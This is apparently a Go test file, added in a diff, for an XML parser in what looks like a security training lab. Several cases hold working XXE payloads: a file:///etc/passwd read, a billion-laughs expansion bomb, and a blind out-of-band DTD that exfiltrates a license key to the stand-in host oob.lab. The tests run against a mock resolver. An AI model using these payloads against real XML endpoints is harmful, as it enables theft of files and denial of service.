@@ -0,0 +1,147 @@
+package endpoints
+
+import (
+	"errors"
+	"fmt"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+// Внешние ресурсы для тестов: адрес -> содержимое
+func testXMLResolver(files map[string]string, loaded *[]string) func(string) (string, error) {
+	return func(uri string) (string, error) {
+		*loaded = append(*loaded, uri)
+		content, ok := files[uri]
+		if !ok {
+			return "", fmt.Errorf("not found")
+		}
+		return content, nil
+	}
+}
+
+func TestParseXML(t *testing.T) {
+	files := map[string]string{
+		"file:///etc/passwd":        "root:x:0:0:root:/root:/bin/bash",
+		"http://oob.lab/entity.txt": "remote",
+		"http://oob.lab/ext.dtd":    `<!ENTITY greeting "hello from dtd">`,
+	}
+	tests := []struct {
+		name string
+		src  string
+		opt  xmlOptions
+		want map[string]interface{}
+	}{
+		{"elements", `<?xml version="1.0"?><!-- c --><user id="1" role='admin'><name>john</name><note/></user>`, xmlOptions{},
+			map[string]interface{}{"name": "user", "attributes": map[string]interface{}{"id": "1", "role": "admin"},
+				"children": []map[string]interface{}{{"name": "name", "text": "john"}, {"name": "note"}}}},
+		{"references", `<a>&lt;&amp;&#65;&#x42;<![CDATA[<&>]]></a>`, xmlOptions{},
+			map[string]interface{}{"name": "a", "text": "<&AB<&>"}},
+		{"internal entity", `<!DOCTYPE a [<!ENTITY n "John"><!ENTITY full "&n; Doe">]><a>&full;</a>`, xmlOptions{DTD: true},
+			map[string]interface{}{"name": "a", "text": "John Doe"}},
+		{"a05_7 xxe", `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`, xmlOptions{DTD: true},
+			map[string]interface{}{"name": "foo", "text": files["file:///etc/passwd"]}},
+		{"http entity", `<!DOCTYPE a [<!ENTITY r SYSTEM "http://oob.lab/entity.txt">]><a>&r;</a>`, xmlOptions{DTD: true},
+			map[string]interface{}{"name": "a", "text": "remote"}},
+		{"public entity", `<!DOCTYPE a [<!ENTITY r PUBLIC "-//x" "http://oob.lab/entity.txt">]><a>&r;</a>`, xmlOptions{DTD: true},
+			map[string]interface{}{"name": "a", "text": "remote"}},
+		{"external dtd", `<!DOCTYPE a SYSTEM "http://oob.lab/ext.dtd"><a>&greeting;</a>`, xmlOptions{DTD: true},
+			map[string]interface{}{"name": "a", "text": "hello from dtd"}},
+		{"parameter entity", `<!DOCTYPE a [<!ENTITY % ext SYSTEM "http://oob.lab/ext.dtd"> %ext;]><a>&greeting;</a>`, xmlOptions{DTD: true},
+			map[string]interface{}{"name": "a", "text": "hello from dtd"}},
+	}
+	for _, tt := range tests {
+		var loaded []string
+		opt := tt.opt
+		if opt.DTD {
+			opt.Resolve = testXMLResolver(files, &loaded)
+		}
+		doc, err := parseXML(tt.src, opt)
+		if err != nil {
+			t.Errorf("%s: %v", tt.name, err)
+			continue
+		}
+		if got := doc.Root.toMap(); !reflect.DeepEqual(got, tt.want) {
+			t.Errorf("%s: got %v, want %v", tt.name, got, tt.want)
+		}
+		if !reflect.DeepEqual(doc.Loaded, loaded) {
+			t.Errorf("%s: Loaded %v, resolver called for %v", tt.name, doc.Loaded, loaded)
+		}
+	}
+}
+
+// Без Resolve внешние сущности не загружаются и раскрываются в пустую строку
+func TestParseXMLNoResolve(t *testing.T) {
+	doc, err := parseXML(`<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`, xmlOptions{DTD: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if doc.Root.Text != "" || len(doc.Loaded) != 0 {
+		t.Errorf("text %q, loaded %v", doc.Root.Text, doc.Loaded)
+	}
+}
+
+func TestParseXMLErrors(t *testing.T) {
+	laughs := `<!DOCTYPE lolz [<!ENTITY lol "lol">`
+	for i := 1; i <= 9; i++ {
+		laughs += fmt.Sprintf(`<!ENTITY lol%d "%s">`, i, strings.Repeat(fmt.Sprintf("&lol%d;", i-1), 10))
+	}
+	laughs = strings.Replace(laughs, "&lol0;", "&lol;", -1) + `]><lolz>&lol9;</lolz>`
+
+	tests := []struct {
+		name string
+		src  string
+		opt  xmlOptions
+		is   error
+		want string
+	}{
+		{"doctype disabled", `<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>`, xmlOptions{}, errXMLDoctype, ""},
+		{"billion laughs", laughs, xmlOptions{DTD: true}, errXMLAmplification, ""},
+		{"loop", `<!DOCTYPE a [<!ENTITY x "&y;"><!ENTITY y "&x;">]><a>&x;</a>`, xmlOptions{DTD: true}, nil, "entity reference loop"},
+		{"undefined", `<a>&nope;</a>`, xmlOptions{}, nil, "Entity 'nope' not defined"},
+		{"pe in internal subset", `<!DOCTYPE a [<!ENTITY % p "x"><!ENTITY e "%p;">]><a/>`, xmlOptions{DTD: true}, nil, "PEReferences forbidden in internal subset"},
+		{"mismatched tag", `<a><b></a>`, xmlOptions{}, nil, "line 1"},
+		{"extra content", `<a/><b/>`, xmlOptions{}, nil, "Extra content at the end of the document"},
+		{"no root", `  `, xmlOptions{}, nil, "Start tag expected"},
+		{"attribute lt", `<a x="<"/>`, xmlOptions{}, nil, "Unescaped '<' not allowed"},
+		{"bad char ref", `<a>&#0;</a>`, xmlOptions{}, nil, "invalid xmlChar value"},
+	}
+	for _, tt := range tests {
+		_, err := parseXML(tt.src, tt.opt)
+		switch {
+		case err == nil:
+			t.Errorf("%s: no error", tt.name)
+		case tt.is != nil && !errors.Is(err, tt.is):
+			t.Errorf("%s: error %v, want %v", tt.name, err, tt.is)
+		case tt.want != "" && !strings.Contains(err.Error(), tt.want):
+			t.Errorf("%s: error %v, want %q", tt.name, err, tt.want)
+		}
+	}
+}
+
+// Blind XXE из подсказки a05_17: внешний DTD с сервера учащегося отправляет файл в адресе запроса
+func TestParseXMLBlindExfiltration(t *testing.T) {
+	const key = "LICENSE-7F3A"
+	files := map[string]string{
+		"file:///var/www/app/config/license.key": key,
+		"http://oob.lab/evil.dtd": `<!ENTITY % file SYSTEM "file:///var/www/app/config/license.key">
+<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://oob.lab/?d=%file;'>"> %eval; %exfil;`,
+		"http://oob.lab/?d=" + key: "",
+	}
+	var loaded []string
+	_, err := parseXML(`<!DOCTYPE catalog [<!ENTITY % dtd SYSTEM "http://oob.lab/evil.dtd"> %dtd;]><catalog/>`,
+		xmlOptions{DTD: true, Resolve: testXMLResolver(files, &loaded)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{"http://oob.lab/evil.dtd", "file:///var/www/app/config/license.key", "http://oob.lab/?d=" + key}
+	if !reflect.DeepEqual(loaded, want) {
+		t.Errorf("loaded %v, want %v", loaded, want)
+	}
+}
+
+func TestEscapeEntityURI(t *testing.T) {
+	if got, want := escapeEntityURI("http://oob.lab/?d=a b\ncé"), "http://oob.lab/?d=a%20b%0Ac%C3%A9"; got != want {
+		t.Errorf("got %q, want %q", got, want)
+	}
+}